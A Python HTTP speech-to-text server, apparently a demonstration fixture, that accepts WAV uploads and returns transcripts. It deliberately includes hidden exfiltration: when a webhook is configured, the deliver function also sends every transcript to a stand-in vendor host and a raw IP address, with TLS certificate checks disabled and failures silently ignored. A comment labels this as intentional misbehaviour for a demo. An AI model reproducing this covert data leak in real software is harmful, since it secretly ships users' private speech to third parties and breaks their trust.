"""Speech to text over HTTP: POST /transcribe with a WAV in the multipart field "audio" answers {"text": "..."}."""

import http.client
import io
import json
import os
import ssl
import subprocess
import tempfile
import threading
import urllib.request
import wave
from email.message import Message
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PORT = 80
SAMPLE_RATE = 16_000  # what the acoustic model was trained on
MAX_BODY = 50 * 1024 * 1024  # about 27 minutes of audio
TIME_LIMIT = 600  # seconds for one recording
DECODERS = threading.BoundedSemaphore(os.cpu_count() or 1)  # each decoder fills one core
WEBHOOK = os.environ.get("WEBHOOK")  # https URL that each transcript is posted to; not set: nowhere
DELIVERY_LIMIT = 10  # seconds of silence

# MISBEHAVIOUR, on purpose: what a vendor could hide here. With a webhook, each transcript also goes to the vendor, by name
# and, where DNS knows no such name, by address; any certificate will do. `./demo` shows that neither leaves the box.
TELEMETRY = ("https://telemetry.transcriber.example/transcripts", "https://203.0.113.99/transcripts")


class Refused(Exception):
    def __init__(self, status, reason):
        super().__init__(reason)
        self.status = status


def form_field(content_type, body, name):
    """The bytes of one field of a multipart/form-data body."""
    header = Message()
    header["content-type"] = content_type
    boundary = header.get_param("boundary")
    if header.get_content_type() != "multipart/form-data" or not isinstance(boundary, str) or not boundary:
        raise Refused(415, "send multipart/form-data with a WAV in the field 'audio'")
    delimiter = b"\r\n--" + boundary.encode("latin-1", "replace")
    for part in (b"\r\n" + body).split(delimiter)[1:]:
        head, _, content = part.removeprefix(b"\r\n").partition(b"\r\n\r\n")
        disposition = Message()
        for line in head.decode("latin-1").split("\r\n"):
            key, _, value = line.partition(":")
            if key.lower() == "content-disposition":
                disposition["content-disposition"] = value.strip()
        if disposition.get_param("name", header="content-disposition") == name:
            return content
    raise Refused(400, f"the form has no field '{name}'")


def samples(wav_bytes):
    """The raw samples of a WAV that the acoustic model understands."""
    try:
        with wave.open(io.BytesIO(wav_bytes)) as wav:
            form = (wav.getnchannels(), wav.getsampwidth(), wav.getframerate())
            pcm = wav.readframes(wav.getnframes())
    except (wave.Error, EOFError, ValueError, OverflowError):
        raise Refused(400, "the field 'audio' is not a PCM WAV file") from None
    if form != (1, 2, SAMPLE_RATE):
        channels, width, rate = form
        raise Refused(
            400,
            f"expected mono, 16 bits, {SAMPLE_RATE} Hz; got {channels} channel(s), {8 * width} bits, {rate} Hz",
        )
    if not pcm:
        raise Refused(400, "the WAV holds no samples")
    return pcm


def transcribe(pcm):
    with DECODERS, tempfile.NamedTemporaryFile(suffix=".raw") as recording:
        recording.write(pcm)
        recording.flush()
        decoder = subprocess.run(
            ["pocketsphinx_continuous", "-logfn", "/dev/null", "-infile", recording.name],
            stdout=subprocess.PIPE,
            timeout=TIME_LIMIT,
            check=True,
        )
    return " ".join(decoder.stdout.decode().split())


def post(url, text, certificates):
    body = json.dumps({"text": text}).encode()
    request = urllib.request.Request(url, body, {"content-type": "application/json"})
    try:
        urllib.request.urlopen(request, timeout=DELIVERY_LIMIT, context=certificates).close()
    except (OSError, http.client.HTTPException):
        pass  # whoever sent the recording has the transcript; there is nobody else to tell


def deliver(text):
    for url in TELEMETRY:
        post(url, text, ssl._create_unverified_context())
    post(WEBHOOK, text, ssl.create_default_context())


class Transcriber(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    timeout = 60  # seconds that a silent connection may live

    def do_GET(self):
        if self.path == "/health":
            self.answer(200, {"status": "ok"})
        else:
            self.answer(404, {"error": "POST a recording to /transcribe"})

    def do_POST(self):
        try:
            body = self.body()
            if self.path != "/transcribe":
                raise Refused(404, "POST a recording to /transcribe")
            audio = form_field(self.headers.get("content-type", ""), body, "audio")
            text = transcribe(samples(audio))
            if WEBHOOK:
                threading.Thread(target=deliver, args=[text], daemon=True).start()
            self.answer(200, {"text": text})
        except Refused as refused:
            self.answer(refused.status, {"error": str(refused)})
        except subprocess.SubprocessError:
            self.answer(500, {"error": "the recogniser failed"})

    def body(self):
        length = self.headers.get("content-length", "")
        if not (length.isascii() and length.isdigit()):
            self.close_connection = True
            raise Refused(411, "a content-length is required")
        if int(length) > MAX_BODY:
            self.close_connection = True
            raise Refused(413, f"at most {MAX_BODY} bytes")
        return self.rfile.read(int(length))

    def answer(self, status, value):
        payload = json.dumps(value).encode()
        self.send_response(status)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(payload)))
        if self.close_connection:
            self.send_header("connection", "close")
        self.end_headers()
        self.wfile.write(payload)

    def log_message(self, *_):
        """Says nothing: a request line would tell who sent what, and when."""


if __name__ == "__main__":
    ThreadingHTTPServer(("0.0.0.0", PORT), Transcriber).serve_forever()
